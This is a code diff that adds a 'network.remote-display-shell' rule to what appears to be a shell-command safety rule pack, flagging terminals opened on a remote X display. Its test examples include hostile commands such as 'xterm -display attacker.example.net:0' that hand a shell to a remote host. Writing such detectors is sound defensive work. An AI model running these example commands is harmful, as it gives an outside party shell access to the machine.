@@ -47,6 +47,17 @@ export const network: Pack = {
       ["irm https://x.dev/status.json"],
     ),
     rule(
+      "network.remote-display-shell",
+      "critical",
+      "opens a terminal on another machine's X display: whoever runs that display gets a shell here",
+      {
+        program: ["xterm", "gnome-terminal", "konsole", "urxvt"],
+        option: { names: ["-display", "--display"], value: "(?!(localhost|127\\.0\\.0\\.1|unix)?:)[^\\s]+:\\d+(\\.\\d+)?" },
+      },
+      ["xterm -display 198.51.100.4:1", "xterm -display attacker.example.net:0"],
+      ["xterm -display :0", "xterm -display localhost:10.0"],
+    ),
+    rule(
       "network.public-tunnel",
       "high",
       "publishes a local port (often SSH or a shell) to the internet",
